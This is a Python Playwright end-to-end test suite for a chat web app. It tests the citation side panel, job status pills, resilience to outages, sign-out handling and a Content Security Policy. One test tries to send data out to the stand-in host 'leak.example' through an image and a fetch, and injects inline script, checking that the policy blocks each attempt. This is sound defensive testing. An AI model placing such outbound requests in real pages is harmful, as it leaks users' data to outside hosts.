"""What our own scripts add to the chat page: the side panel, live pills, patience with outages; and what the page may not load."""

import asyncio

import pytest
from playwright.async_api import Browser, Page, Route, expect

from tests.e2e import chat
from tests.e2e.conftest import Site

pytestmark = pytest.mark.browser

RULES = b"Refunds are paid within five working days. The office in Lisbon opens at nine in the morning."
QUESTION = "When does the office in Lisbon open?"


@pytest.fixture(scope="module")
def informed(site: Site) -> Site:
    """The server, with a document to ask about."""
    chat.upload(site, "lisbon.txt", RULES)
    return site


async def test_the_panel_opens_resizes_closes_and_comes_back(informed: Site, page: Page) -> None:
    await chat.sign_in(page, informed.url)
    await chat.ask(page, QUESTION)
    link = chat.citations(page).first
    panel = page.locator("#fn-panel")
    await link.click()
    await expect(panel).to_be_visible()
    await expect(panel.get_by_role("button", name="Close source")).to_be_focused()
    await expect(chat.panel(page).locator("mark").first).to_contain_text("Lisbon")
    await expect(panel.locator("h2")).to_contain_text("lisbon.txt")
    grip = panel.get_by_role("separator")
    before = int(await grip.get_attribute("aria-valuenow") or 0)
    await grip.press("ArrowLeft")
    await expect(grip).to_have_attribute("aria-valuenow", str(before + 40))
    width = await page.locator("#root").evaluate("root => root.getBoundingClientRect().width")
    assert width + before + 40 == pytest.approx(1400, abs=2)
    await page.wait_for_url("**/thread/*")
    await page.reload()
    await expect(panel).to_be_visible()
    await expect(chat.panel(page).locator("mark").first).to_contain_text("Lisbon")
    await expect(link).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(panel).to_be_hidden()
    await expect(link).to_be_focused()
    await link.press("Enter")
    await chat.panel(page).locator("body").press("Escape")
    await expect(panel).to_be_hidden()
    await link.click()
    await page.locator("#new-chat-button").first.click()
    await expect(panel).to_be_hidden()


async def test_on_a_narrow_window_the_panel_is_a_sheet(informed: Site, browser: Browser) -> None:
    context = await browser.new_context(viewport={"width": 400, "height": 800})
    page = await context.new_page()
    await chat.sign_in(page, informed.url)
    await chat.ask(page, QUESTION)
    await chat.citations(page).first.click()
    sheet = page.get_by_role("dialog")
    await expect(sheet).to_be_visible()
    assert await sheet.evaluate("sheet => sheet.getBoundingClientRect().width") == 400
    assert await page.locator("#root").get_attribute("inert") is not None
    await sheet.get_by_role("button", name="Close source").click()
    await expect(page.locator("#root")).not_to_have_attribute("inert", "")
    await page.wait_for_url("**/thread/*")  # the list of conversations is closed
    await page.reload()
    await expect(chat.citations(page).first).to_be_visible()
    await context.close()


async def test_a_reload_before_the_list_of_conversations_has_come_loses_nothing(informed: Site, page: Page) -> None:
    """The page gives a new conversation its address after the list has come, which takes a while on a busy machine."""
    asked = asyncio.Event()

    async def hold(route: Route) -> None:
        asked.set()
        await asyncio.sleep(3600)

    await chat.sign_in(page, informed.url)
    await page.route("**/project/threads", hold)
    await chat.ask(page, QUESTION)
    async with asyncio.timeout(30):
        await asked.wait()
    await page.reload()
    await expect(chat.citations(page).first).to_be_visible()
    await page.unroute_all(behavior="ignoreErrors")


async def test_a_file_without_a_question_is_followed_to_its_end(site: Site, page: Page) -> None:
    await chat.sign_in(page, site.url)
    await chat.drop(page, "plain <b>notes<b> [1].txt", b"The canteen serves soup on Mondays.", "text/plain")
    await chat.send(page)
    pill = page.locator('a[href^="/jobs/"]')
    await expect(pill).to_have_text("plain <b>notes<b> [1].txt")
    await expect(pill).to_have_attribute("data-job", "finished")
    await expect(pill).to_have_attribute("data-label", "Ready")
    await page.wait_for_url("**/thread/*")
    await page.reload()
    await expect(pill).to_have_attribute("data-job", "finished")


async def test_an_outage_does_not_lead_to_the_sign_in_page(informed: Site, page: Page) -> None:
    """B7: any failure of /user was taken for a sign-out."""
    await chat.sign_in(page, informed.url)
    await chat.ask(page, QUESTION)
    await page.wait_for_url("**/thread/*")
    address = page.url
    tries: list[int] = []

    async def fail(route: Route) -> None:
        tries.append(1)
        await (route.abort() if len(tries) % 2 else route.fulfill(status=503, body="{}"))

    await page.route("**/user", fail)
    await page.wait_for_timeout(5500)  # the page asks again at most every five seconds
    await page.evaluate("window.dispatchEvent(new Event('focus')); window.dispatchEvent(new Event('online'))")
    await page.wait_for_timeout(3000)
    assert len(tries) >= 2
    assert page.url == address
    await expect(chat.citations(page).first).to_be_visible()
    await page.unroute("**/user")
    await page.wait_for_timeout(3000)
    assert page.url == address


async def test_an_ended_sign_in_leads_to_the_sign_in_page(informed: Site, page: Page) -> None:
    await chat.sign_in(page, informed.url)
    await page.evaluate(
        "() => { fetch('/logout', {method: 'POST'}) }"
    )  # not awaited: the page leaves in the middle of it
    await expect(page.get_by_role("button", name="Sign in")).to_be_visible()


WATCH_SOCKETS = """
const Original = WebSocket;
window.sockets = [];
window.WebSocket = class extends Original { constructor(...all) { super(...all); window.sockets.push(this); } };
"""


async def test_a_sign_in_that_ended_while_the_socket_was_away_leads_to_the_sign_in_page(
    informed: Site, page: Page
) -> None:
    """The handshake is refused then, and the page, which has no other reason to ask who it is, took that for an outage."""
    await page.add_init_script(WATCH_SOCKETS)
    await chat.sign_in(page, informed.url)
    async with asyncio.timeout(30):  # the page's policy forbids what wait_for_function does
        while not await page.evaluate("window.sockets.some((socket) => socket.readyState === 1)"):
            await asyncio.sleep(0.1)
    user = await page.evaluate("fetch('/user').then((response) => response.text())")
    # The page itself asks now and then, and hears here what it heard before.
    await page.route("**/user", lambda route: route.fulfill(body=user, content_type="application/json"))
    page.once("framenavigated", lambda _: page.unroute("**/user"))
    await page.context.clear_cookies()
    await page.evaluate("for (const socket of window.sockets) socket.close()")
    await expect(page.get_by_role("button", name="Sign in")).to_be_visible(timeout=15_000)


async def test_nothing_of_another_host_is_loaded_or_run(informed: Site, page: Page) -> None:
    """S12: an image in an answer could carry what was said to another host."""
    await chat.sign_in(page, informed.url)
    blocked = await page.evaluate(
        """() => new Promise((resolve) => {
            const seen = [];
            document.addEventListener('securitypolicyviolation', (event) => {
                seen.push(event.effectiveDirective);
                if (seen.length === 4) resolve(seen);
            });
            new Image().src = 'http://leak.example/?secret';
            fetch('http://leak.example/?secret').catch(() => {});
            document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }));
            setTimeout('window.ran = 2');
        })"""
    )
    assert sorted(blocked) == ["connect-src", "img-src", "script-src", "script-src-elem"]
    assert await page.evaluate("window.ran") is None


async def test_a_wrong_password_is_said(site: Site, page: Page) -> None:
    await page.goto(f"{site.url}/login")
    await page.get_by_label("Name").fill("nobody")
    await page.get_by_label("Password", exact=True).fill("wrong password")
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.locator("form").get_by_text("The name or the password is wrong.")).to_be_visible()
